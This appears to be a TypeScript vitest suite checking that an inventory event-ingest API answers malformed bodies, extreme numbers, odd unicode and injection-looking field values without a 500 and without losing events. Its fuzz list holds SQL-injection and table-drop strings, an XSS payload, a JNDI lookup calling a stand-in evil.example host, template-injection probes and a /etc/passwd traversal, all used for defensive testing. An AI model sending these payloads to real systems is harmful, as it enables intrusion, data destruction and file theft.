// Check 7: malformed JSON, wrong types, huge numbers, unicode and injection-looking strings in
// every field → 400 (body kept as a dead letter) or a per-event `rejected` with reasons (the event
// kept as a rejected row), never a 500 and never a lost event.
import { beforeAll, describe, expect, it } from "vitest";
import { storableKey } from "@/server/ingest/sanitize";
import { bearer, call, createWorld, postEvents, type TWorld } from "./lib/api";
import { sql, storedCounts } from "./lib/db";
import { figure, sharedServer } from "./lib/servers";

const server = sharedServer();
let w: TWorld;
const REASON_CODES = ["missing_field", "invalid_field", "unknown_type", "unknown_sku", "unknown_location", "unknown_channel", "bad_quantity", "bad_timestamp", "future_timestamp"];

beforeAll(async () => {
  w = await createWorld(server.baseUrl, server.token);
});

/** Raw JSON text for a value (so huge numbers and lone surrogates go out exactly as written). */
type THostile = { label: string; json: string; bug?: boolean };
const str = (label: string, s: string): THostile => ({ label, json: JSON.stringify(s) });
const raw = (label: string, json: string, bug?: boolean): THostile => ({ label, json, bug });

// KNOWN BUG (server/ingest, the lead's): PostgreSQL's jsonb refuses "\u0000" and an unpaired
// surrogate escape, so an event carrying either in ANY string field makes the whole request fail
// with 500 before anything is stored: the batch is lost (not kept as a rejected event or dead
// letter). The tests marked KNOWN BUG below assert the contract and fail until it is fixed.

/** JSON with keys sorted at every level: how jsonb's reordering is told apart from a changed value. */
function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(",")}]`;
  if (value && typeof value === "object") return `{${Object.keys(value).sort().map((k) => `${JSON.stringify(k)}:${canonical((value as Record<string, unknown>)[k])}`).join(",")}}`;
  return JSON.stringify(value) ?? "null";
}

const HOSTILE: THostile[] = [
  raw("null", "null"),
  raw("true", "true"),
  raw("an empty object", "{}"),
  raw("an array", '[1,"2"]'),
  raw("zero", "0"),
  raw("a negative number", "-7"),
  raw("a fraction", "1.5"),
  raw("2^53 + 1", "9007199254740993"),
  raw("1e20", "1e20"),
  raw("-1e20", "-1e20"),
  raw("1e308", "1e308"),
  raw("1e400 (infinite as a double)", "1e400"),
  raw("a 400-digit integer", "1".repeat(400)),
  str("an empty string", ""),
  str("a numeric string", "12"),
  str("SQL injection", "'; drop table event; --"),
  str("SQL boolean", "x' OR '1'='1"),
  str("HTML", '<script>alert("x")</script><img src=x onerror=alert(1)>'),
  str("a template", "${jndi:ldap://evil.example/a}{{7*7}}#{7*7}"),
  str("a path", "../../../../etc/passwd"),
  str("a URL-encoded NUL", "%00%0d%0a"),
  str("quotes and backslashes", `"\\'\``),
  str("emoji", "📦🚚💥"),
  str("right-to-left override", "SKU\u202eA-\u202c1"),
  str("zero-width characters", "SK\u200bU\u200d-\ufeff1"),
  str("combining marks", "Z̵̡̢͎̙̝̹̗̯͕̪̦͕̿̅͒̋͒̓̎͘a̸l̷g̸o̶"),
  str("CJK", "在庫数量"),
  str("control characters", "a\u0001b\u0007c\u001bd"),
  raw("a NUL character", '"a\\u0000b"', true),
  raw("a lone surrogate", '"a\\ud800b"', true),
  str("a 10,000-character string", "x".repeat(10_000)),
];

const FIELDS = ["eventId", "type", "occurredAt", "sku", "upc", "location", "toLocation", "channel", "quantity", "delta", "disposition", "balances", "sequence", "correlationId", "orderRef", "reason"] as const;
type TField = (typeof FIELDS)[number];

/** A valid event of a type that uses the field; the hostile value then replaces the field. */
function baseFor(field: TField, eventId: string): Record<string, unknown> {
  const at = new Date(Date.now() - 60_000).toISOString();
  const common = { eventId, occurredAt: at, sku: w.code("A"), location: w.code("WH") };
  switch (field) {
    case "delta":
      return { ...common, type: "stock.adjusted", delta: 1 };
    case "disposition":
      return { ...common, type: "return.received", quantity: 1, disposition: "restockable" };
    case "balances":
      return { ...common, type: "balance.snapshot", balances: { onHand: 1 } };
    case "toLocation":
      return { ...common, type: "transfer.shipped", quantity: 1, toLocation: w.code("WH") };
    case "channel":
      return { ...common, type: "order.created", quantity: 1, channel: w.code("web"), orderRef: `${eventId}-o` };
    case "upc": {
      const { sku: _sku, ...rest } = common;
      return { ...rest, type: "receipt.posted", quantity: 1, upc: "00000000" };
    }
    default:
      return { ...common, type: "receipt.posted", quantity: 1 };
  }
}

/** The event as JSON text with one field's value replaced by raw JSON. */
function eventText(field: TField, value: THostile, eventId: string) {
  const base = baseFor(field, eventId);
  const marker = "__HOSTILE__";
  if (field === "eventId") return JSON.stringify({ ...base, eventId: marker }).replace(`"${marker}"`, value.json);
  return JSON.stringify({ ...base, [field]: marker }).replace(`"${marker}"`, value.json);
}

// Free-text fields where a string of any content is a legitimate value (it is stored as sent).
const FREE_TEXT: TField[] = ["eventId", "correlationId", "orderRef", "reason"];
const LEGITIMATE = new Set(["delta = a negative number"]);

/** Sends each (field, value) as its own request and lists what was not answered and kept as the contract says. */
async function sendEach(values: THostile[]) {
  const failures: string[] = [];
  const lossy: string[] = [];
  let sent = 0;
  let rejected = 0;
  let accepted = 0;
  {
    for (const field of FIELDS) {
      for (const value of values) {
        const i = HOSTILE.indexOf(value);
        const eventId = `${w.prefix}-h-${field}-${i}`;
        const text = eventText(field, value, eventId);
        sent++;
        const r = await postEvents(server.baseUrl, w.key("wms"), null, { body: `[${text}]` });
        const where = `${field} = ${value.label}`;
        if (r.status !== 200) {
          failures.push(`${where}: HTTP ${r.status} ${r.text.slice(0, 160)}`);
          continue;
        }
        const result = r.json.results[0]!;
        if (result.status === "rejected") {
          rejected++;
          const reasons = result.reasons ?? [];
          if (!reasons.length || reasons.some((x) => !REASON_CODES.includes(x.code) || !x.field || !x.message)) failures.push(`${where}: rejected without proper reasons ${JSON.stringify(reasons)}`);
        } else if (result.status === "accepted") {
          accepted++;
          if (!FREE_TEXT.includes(field) && !LEGITIMATE.has(where)) failures.push(`${where}: accepted`);
        } else failures.push(`${where}: answered ${result.status}`);

        // kept: the event row exists, rejected ones with their reasons and the payload as sent
        // an eventId with a NUL or lone surrogate is stored escaped (PostgreSQL cannot hold them)
        const storedId = field === "eventId" ? (result.eventId === null ? null : storableKey(result.eventId)) : eventId;
        const rows = await sql<{ status: string; payload: unknown; reasons: unknown }>(
          server.pgUrl,
          storedId === null ? `select status, payload, reasons from event where connector_id = (select id from connector where code = $1) and event_id is null and payload->>'quantity' is not null order by id desc limit 1` : `select status, payload, reasons from event where connector_id = (select id from connector where code = $1) and event_id = $2`,
          storedId === null ? [w.code("wms")] : [w.code("wms"), storedId],
        );
        if (rows.length !== 1) failures.push(`${where}: ${rows.length} stored rows`);
        else if (canonical(rows[0]!.payload) !== canonical(JSON.parse(text))) lossy.push(`${where}`);
      }
    }
  }
  return { failures, lossy, sent, rejected, accepted };
}

describe("check 7: hostile values in every field", () => {
  it("answers each with 200 and a per-event status, rejecting what is invalid with reasons and storing every event", async () => {
    const values = HOSTILE.filter((v) => !v.bug);
    const { failures, lossy, sent, rejected, accepted } = await sendEach(values);
    // a number JavaScript cannot hold (1e400, 400 digits) is parsed as Infinity and stored as null: noted, not failed
    figure(7, `hostile values: ${sent} events (${FIELDS.length} fields × ${values.length} values), one a request: ${sent - failures.length} answered 200 as the contract says and stored, ${rejected} rejected with reasons, ${accepted} accepted (free-text fields and a negative delta), ${failures.length} failures; ${lossy.length} stored payloads differ from the parsed event${lossy.length ? ` (${[...new Set(lossy.map((l) => l.split(" = ")[1]))].join(", ")})` : ""}; numbers beyond a double (1e400, 400 digits) parse to Infinity and are kept as null`);
    expect(failures, failures.join("\n")).toEqual([]);
  });

  it("rejects a NUL character or a lone surrogate in any string field with a reason, and keeps the event (U+FFFD in its place)", async () => {
    const { failures, sent } = await sendEach(HOSTILE.filter((v) => v.bug));
    figure(7, `NUL / lone surrogate in each of ${FIELDS.length} fields: ${sent} requests, ${sent - failures.length} answered 200 with the event rejected and kept, ${failures.length} failures`);
    expect(failures, failures.join("\n")).toEqual([]);
  });

  async function batchOf(values: THostile[], tag: string) {
    const texts = values.map((v, i) => eventText("sku", v, `${w.prefix}-${tag}-${i}`));
    const good = JSON.stringify(baseFor("quantity", `${w.prefix}-${tag}-good`));
    const r = await postEvents(server.baseUrl, w.key("wms"), null, { body: `[${[...texts, good].join(",")}]` });
    expect(r.status, r.text.slice(0, 300)).toBe(200);
    expect(r.json.received).toBe(values.length + 1);
    expect(r.json.accepted).toBe(1);
    expect(r.json.rejected).toBe(values.length);
    return r;
  }

  it("answers every event of a batch of hostile ones, applying the good one", async () => {
    const values = HOSTILE.filter((v) => !v.bug);
    const r = await batchOf(values, "batch");
    figure(7, `one batch of ${values.length} hostile SKUs + 1 good event → 200, ${r.json.rejected} rejected, ${r.json.accepted} accepted`);
  });

  it("one event with a NUL character does not lose the other events of its batch", async () => {
    await batchOf(HOSTILE, "batch-nul");
  });

  it("rejects items that are not events at all, and keeps them", async () => {
    const before = await storedCounts(server.pgUrl, w.code("wms"));
    const r = await postEvents(server.baseUrl, w.key("wms"), null, { body: '[1, "x", [], true, {}, {"eventId": 5}]' });
    expect(r.status).toBe(200);
    expect(r.json.rejected).toBe(6);
    expect(r.json.results.every((x) => x.status === "rejected" && x.reasons?.length)).toBe(true);
    const after = await storedCounts(server.pgUrl, w.code("wms"));
    expect(after.events - before.events).toBe(6);
    figure(7, `6 non-event items → 200, 6 rejected with reasons, 6 rows kept`);
  });

  it("rejects a null item in the array with a reason and keeps it, answering the rest", async () => {
    const before = await storedCounts(server.pgUrl, w.code("wms"));
    const r = await postEvents(server.baseUrl, w.key("wms"), null, { body: '[null, {"eventId": "after-null"}]' });
    expect(r.status, r.text).toBe(200);
    expect(r.json.rejected).toBe(2);
    expect((await storedCounts(server.pgUrl, w.code("wms"))).events - before.events).toBe(2);
  });
});

describe("check 7: malformed bodies", () => {
  const MALFORMED: [string, string, string?][] = [
    ["an empty body", ""],
    ["a lone brace", "{"],
    ["a trailing comma", '[{"eventId":"x","type":"heartbeat","occurredAt":"2026-01-01T00:00:00Z"},]'],
    ["not JSON", "eventId=1&type=heartbeat"],
    ["an object, not an array", '{"eventId":"x","type":"heartbeat"}'],
    ["JSON null", "null"],
    ["a truncated array", '[{"eventId":"x"'],
    ["single quotes", "[{'eventId':'x'}]"],
    ["a byte-order mark", '\ufeff[{"eventId":"bom","type":"heartbeat","occurredAt":"2026-01-01T00:00:00Z"}]'],
    ["raw control characters", '[{"eventId":"a\u0001\u0002"}]'],
    ["NDJSON with one bad line", '{"eventId":"n1","type":"heartbeat","occurredAt":"2026-01-01T00:00:00Z"}\n{bad line}\n', "application/x-ndjson"],
    ["NDJSON that is a JSON array", '[{"eventId":"n2"}]\n', "application/x-ndjson"],
  ];

  async function sendMalformed(bodies: [string, string, string?][]) {
    const failures: string[] = [];
    for (const [label, body, contentType] of bodies) {
      const before = await storedCounts(server.pgUrl, w.code("erp"));
      const r = await postEvents(server.baseUrl, w.key("erp"), null, { body, contentType });
      // the exact bytes are in body_bytes when text could not hold them (a NUL)
      const rows = await sql<{ body: string; body_bytes: Buffer | null; error: string }>(server.pgUrl, `select body, body_bytes, error from dead_letter_body where connector_id = (select id from connector where code = $1) order by id desc limit 1`, [w.code("erp")]);
      const dead = rows.map((d) => ({ ...d, body: d.body_bytes ? d.body_bytes.toString("utf8") : d.body }));
      const after = await storedCounts(server.pgUrl, w.code("erp"));
      const isBadRequest = r.status === 400 && (r.json as unknown as { error: { code: string } }).error?.code === "invalid_body";
      // an NDJSON line that is an array is a (non-event) item: rejected, not malformed
      const isRejectedItem = r.status === 200 && r.json.rejected >= 1;
      if (!isBadRequest && !isRejectedItem) failures.push(`${label}: HTTP ${r.status} ${r.text.slice(0, 160)}`);
      else if (isBadRequest && (after.dead !== before.dead + 1 || dead[0]?.body !== body)) failures.push(`${label}: 400 but the body was ${after.dead === before.dead ? "not kept" : "kept altered"}`);
      else if (isBadRequest && !(r.json as unknown as { error: { message: string } }).error.message) failures.push(`${label}: no message`);
    }
    return failures;
  }

  it("answers 400 with where it broke, and keeps the body whole as a dead letter", async () => {
    const failures = await sendMalformed(MALFORMED);
    figure(7, `malformed bodies: ${MALFORMED.length} sent, ${MALFORMED.length - failures.length} answered 400 invalid_body (or rejected items) with the body kept byte for byte in dead_letter_body, ${failures.length} failures`);
    expect(failures, failures.join("\n")).toEqual([]);
  });

  it("answers 400 to a body with a raw NUL byte, or nested 100,000 deep, and keeps it byte for byte", async () => {
    const failures = await sendMalformed([
      ["a raw NUL byte", '[{"eventId":"nul\u0000","type":"heartbeat"}]'],
      ["100,000 nested arrays", `${"[".repeat(100_000)}${"]".repeat(100_000)}`],
    ]);
    figure(7, `raw NUL byte / 100,000-deep nesting: ${2 - failures.length} of 2 answered 400 invalid_body and kept byte for byte, ${failures.length} failures`);
    expect(failures, failures.join("\n")).toEqual([]);
  });

  it("answers 400 to a malformed master-data body from an admin, and 415 to a wrong content type", async () => {
    const bad = await call<{ error: { code: string; message: string; details?: unknown[] } }>(server.baseUrl, "/api/v1/master-data", { method: "PUT", headers: { ...bearer(server.token), "content-type": "application/json" }, body: '{"skus": [{"code": "has spaces"}, {"code": 5}, {"code": "x".repeat(65)}]}' });
    expect(bad.status).toBe(400);
    const wrongTypes = await call<{ error: { code: string; details: { path: string }[] } }>(server.baseUrl, "/api/v1/master-data", { method: "PUT", headers: { ...bearer(server.token), "content-type": "application/json" }, body: JSON.stringify({ skus: [{ code: "'; drop table sku; --" }, { code: 5 }, { code: "A", upc: "12" }], channels: [{ code: "c", kind: "nope", freshnessSloSeconds: -1, eligibleLocations: "x" }] }) });
    expect(wrongTypes.status).toBe(400);
    expect(wrongTypes.json.error.code).toBe("invalid_field");
    expect(wrongTypes.json.error.details.length).toBeGreaterThanOrEqual(4);
    const xml = await call(server.baseUrl, "/api/v1/master-data", { method: "PUT", headers: { ...bearer(server.token), "content-type": "application/xml" }, body: "<skus/>" });
    expect(xml.status).toBe(415);
    const events = await call(server.baseUrl, "/api/v1/events", { method: "POST", headers: { ...bearer(w.key("wms")), "content-type": "text/csv" }, body: "a,b" });
    expect(events.status).toBe(415);
    expect(await sql(server.pgUrl, "select 1 from sku where code like $1", ["'%"])).toHaveLength(0);
    figure(7, `master data: malformed → 400, ${wrongTypes.json.error.details.length} field errors named in one 400, wrong content types → 415`);
  });
});

